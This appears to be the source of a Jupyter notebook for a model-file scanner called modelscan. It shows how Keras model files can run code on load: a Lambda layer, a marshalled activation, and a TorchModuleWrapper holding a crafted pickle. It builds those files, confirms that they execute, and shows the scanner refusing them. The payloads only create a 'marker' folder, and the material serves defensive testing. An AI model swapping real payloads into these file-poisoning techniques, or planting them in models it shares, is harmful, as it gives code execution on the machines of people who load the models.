# ruff: noqa: E402 - a notebook imports where it needs something
# The source of keras.ipynb; `tools/build_notebooks.py` builds it. A line "# %name" is an IPython magic.

# %% [markdown]
# # Keras: code in a layer, code in a configuration
#
# A `.keras` file looks harmless: a zip archive, a JSON configuration, an HDF5 file of numbers. But a `Lambda` layer in that
# configuration carries compiled Python, and so may other entries. Here each kind gets a payload, which only makes a folder
# called `marker`.

# %%
import base64
import io
import json
import logging
import marshal
import os
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

os.environ |= {"TF_CPP_MIN_LOG_LEVEL": "3", "TF_ENABLE_ONEDNN_OPTS": "0"}  # without its log

# %%
import keras

start = Path.cwd()
folder = tempfile.TemporaryDirectory()
os.chdir(folder.name)
marker = Path("marker")
logging.getLogger("absl").setLevel("ERROR")  # it would say that HDF5 is an old format

# %% [markdown]
# ## The attack
#
# A model as anybody would write it, but for one layer. Its function returns what it is given, and does something else
# besides. Saving it needs no trick at all.


# %%
def harmless():
    return keras.layers.Lambda(lambda x: (__import__("os").makedirs("marker", exist_ok=True), x)[1])


def network(*layers):
    return keras.Sequential([keras.Input((2,)), *layers, keras.layers.Dense(1)])


network().save("clean.keras")
network(harmless()).save("lambda.keras")
network(harmless()).save("lambda.h5")  # the older format
marker.rmdir()  # building the layer has called it
sorted(path.name for path in Path().iterdir())

# %% [markdown]
# The others need an editor, and no `Lambda`. Any entry that may be a function may be code: here the activation of the
# ordinary layer. And a `TorchModuleWrapper` keeps a whole PyTorch checkpoint in its configuration, as text; unpacking it
# runs the pickle inside (CVE-2025-49655).

# %%
code = compile("lambda x: (__import__('os').makedirs('marker', exist_ok=True), x)[1]", "<lambda>", "eval").co_consts[0]
activation = {
    "class_name": "__lambda__",
    "config": {"value": [base64.b64encode(marshal.dumps(code)).decode(), None, None]},
}

checkpoint = io.BytesIO()
with zipfile.ZipFile(checkpoint, "w") as archive:
    archive.writestr("archive/data.pkl", b"cos\nmakedirs\n(Vmarker\ntR.")
    archive.writestr("archive/version", b"3")
wrapper = {
    "module": "keras.layers",
    "class_name": "TorchModuleWrapper",
    "config": {"module": base64.b64encode(checkpoint.getvalue()).decode()},
    "registered_name": None,
}


def edited(name, edit):
    with zipfile.ZipFile("clean.keras") as clean, zipfile.ZipFile(name, "w") as target:
        for member in clean.namelist():
            data = clean.read(member)
            if member == "config.json":
                config = json.loads(data)
                edit(config["config"]["layers"])
                data = json.dumps(config).encode()
            target.writestr(member, data)


edited("activation.keras", lambda layers: layers[-1]["config"].update(activation=activation))
edited("wrapper.keras", lambda layers: layers.append(wrapper))

# %% [markdown]
# ### They are live
#
# Somebody who was told to pass `safe_mode=False`, as many model cards say, loads each in a process without a guard and
# asks it for an answer:

# %% tags=["ran-each"]
child = """
import os, keras, numpy
for name in ("lambda.keras", "lambda.h5", "activation.keras", "wrapper.keras"):
    try:
        model = keras.saving.load_model(name, safe_mode=False, compile=False)
        model(numpy.ones((1, 2), "float32"))
    except Exception:  # there is no module in the wrapper: it has run by then
        pass
    print(f"{name:17} payload ran: {os.path.exists('marker')}")
    os.rmdir("marker")
"""
print(subprocess.run([sys.executable, "-c", child], capture_output=True, text=True, check=True).stdout, end="")

# %% [markdown]
# ## What the guard does
#
# `load_model` is guarded like any other loader, whatever `safe_mode` says. That switch alone has not been enough: Keras
# ignored it for HDF5 files (CVE-2025-9905), and names in configurations have passed it: Keras up to 3.8 imports any module
# a layer names and calls a function out of it (CVE-2025-1550), newer ones did so with functions of Keras itself
# (CVE-2025-8747, CVE-2025-9906). Models outlive versions, so files like that are refused here whatever Keras is installed.

# %%
# %load_ext modelscan

# %% tags=["clean"]
model = keras.saving.load_model("clean.keras")

# %% tags=["raises-exception", "refused"]
keras.saving.load_model("lambda.keras", safe_mode=False)

# %% tags=["raises-exception", "refused"]
keras.saving.load_model("lambda.h5", safe_mode=False)

# %% tags=["raises-exception", "refused"]
keras.saving.load_model("activation.keras", safe_mode=False)

# %% tags=["raises-exception", "refused"]
keras.saving.load_model("wrapper.keras", safe_mode=False)

# %% tags=["marker"]
print("payload ran:", marker.exists())

# %% [markdown]
# ## What the evidence says
#
# The same without Keras, in one line a file. The code was not unmarshalled to find that out: its names and instructions
# are read from its bytes, which is why the report can say what it uses.

# %% tags=["keras"]
import modelscan

for path in sorted(Path().iterdir()):
    report = modelscan.scan(path)
    worst = report.findings[0] if report.findings else None
    about = f"{worst.severity} {worst.rule} {worst.expression[:56]}" if worst else ""
    print(f"{path.name:17} {report.verdict:7} {about}")

# %% [markdown]
# ## Going on safely
#
# - Ask for weights alone (`model.save_weights`), and build the model from source you have read.
# - Read the function that the report shows. If it is what its author says, allow this one file by its hash; a layer with
#   a name of its own and `@keras.saving.register_keras_serializable()` needs no `Lambda` in the first place.

# %%
# %unload_ext modelscan

# %%
os.chdir(start)
folder.cleanup()
